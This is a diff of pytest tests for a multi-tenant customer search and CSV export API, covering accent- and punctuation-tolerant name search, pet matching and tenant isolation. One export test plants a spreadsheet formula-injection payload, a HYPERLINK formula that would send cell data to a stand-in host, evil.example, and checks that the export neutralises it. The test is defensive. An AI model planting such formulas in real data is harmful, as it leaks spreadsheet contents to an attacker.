@@ -73,6 +73,45 @@ def test_search_by_pet_name(client, tenant_a):
     assert _search(client, tenant_a, "bisc") == ["Doe"]
 
 
+def test_search_forgives_punctuation_in_names(client, tenant_a, tenant_b):
+    _create(client, tenant_a, first_name="Seán", last_name="O'Brien", email=None, phone=None)
+    _create(client, tenant_a, first_name="Ann", last_name="Smith-Jones", email=None, phone=None)
+    _create(client, tenant_b, first_name="Pat", last_name="O'Brien", email=None, phone=None)
+    for q in ("obrien", "O'Brien", "o’brien", "brien", "obr", "sean obrien"):
+        assert _search(client, tenant_a, q) == ["O'Brien"], q
+    for q in ("smithjones", "jones", "smith-jones", "smith jones"):
+        assert _search(client, tenant_a, q) == ["Smith-Jones"], q
+    assert _search(client, tenant_a, "'") == [] and _search(client, tenant_a, "o'connor") == []
+    assert [c["first_name"] for c in client.get("/api/v1/customers", headers=tenant_b.headers(),
+                                                query_string={"q": "obrien"}).json] == ["Pat"]
+
+
+def test_search_forgives_umlauts_spelled_out_or_dropped(client, tenant_a, tenant_b):
+    _create(client, tenant_a, first_name="Jürgen", last_name="Müller", email=None, phone=None)
+    _create(client, tenant_a, first_name="Hans", last_name="Großmann", email=None, phone=None)
+    _create(client, tenant_b, first_name="Uli", last_name="Müller", email=None, phone=None)
+    for q in ("mueller", "muller", "Müller", "MUELLER", "juergen mueller", "jurgen"):
+        assert _search(client, tenant_a, q) == ["Müller"], q
+    for q in ("grossmann", "großmann", "gross"):
+        assert _search(client, tenant_a, q) == ["Großmann"], q
+    assert [c["first_name"] for c in client.get("/api/v1/customers", headers=tenant_b.headers(),
+                                                query_string={"q": "mueller"}).json] == ["Uli"]
+
+
+def test_search_by_a_pets_forgiving_name_says_which_pets_matched(client, tenant_a, tenant_b):
+    c = _create(client, tenant_a)
+    biscuit = _pet(client, tenant_a, c["id"], name="Biscuit")
+    _pet(client, tenant_a, c["id"], name="Rex")
+    bjork = _pet(client, tenant_a, c["id"], name="Björk")
+    other = _create(client, tenant_b)
+    _pet(client, tenant_b, other["id"], name="Biscuit")
+    for q, expected in (("bisc", [biscuit["id"]]), ("bjoerk", [bjork["id"]]), ("doe", []), ("555", [])):
+        r = client.get("/api/v1/customers", headers=tenant_a.headers(), query_string={"q": q})
+        assert [row["matched_pets"] for row in r.json] == [expected], q
+    r = client.get("/api/v1/customers", headers=tenant_b.headers(), query_string={"q": "bisc"})
+    assert [p["id"] for p in r.json[0]["pets"]] == r.json[0]["matched_pets"] != [biscuit["id"]]
+
+
 def test_search_never_crosses_tenants(client, tenant_a, tenant_b):
     _create(client, tenant_a)
     assert _search(client, tenant_b, "jane") == []
@@ -183,6 +222,24 @@ def test_export_is_for_managers_and_holds_only_this_tenant(client, tenant_a, ten
     assert r.status_code == 200 and r.mimetype == "text/csv"
     text = r.get_data(as_text=True)
     assert "Doe" in text and "Bravo" not in text
+
+
+def test_export_streams_with_formula_cells_neutralised_and_only_this_tenant(client, tenant_a, tenant_b,
+                                                                           monkeypatch):
+    from app.services import customer_csv
+
+    monkeypatch.setattr(customer_csv, "EXPORT_CHUNK_ROWS", 1)
+    _create(client, tenant_a, first_name='=HYPERLINK("http://evil.example/?x="&A2,"Click")', email=None,
+            phone="+44 20 7946 0000")
+    _create(client, tenant_a, first_name="Plain", email=None, phone=None)
+    _create(client, tenant_b, last_name="Bravo", first_name="=Bravo")
+    r = client.get("/api/v1/customers/export", headers=tenant_a.headers(Role.MANAGER), buffered=False)
+    assert r.status_code == 200
+    chunks = [chunk for chunk in r.response if chunk]  # one piece per row: the body was never built whole
+    assert len(chunks) == 2
+    text = b"".join(chunks).decode()
+    assert "\"'=HYPERLINK(\"\"http://evil.example" in text and ",'+442079460000," in text
+    assert "Bravo" not in text
 
 
 def test_customer_writes_are_audited_with_contact_details_masked(client, tenant_a):
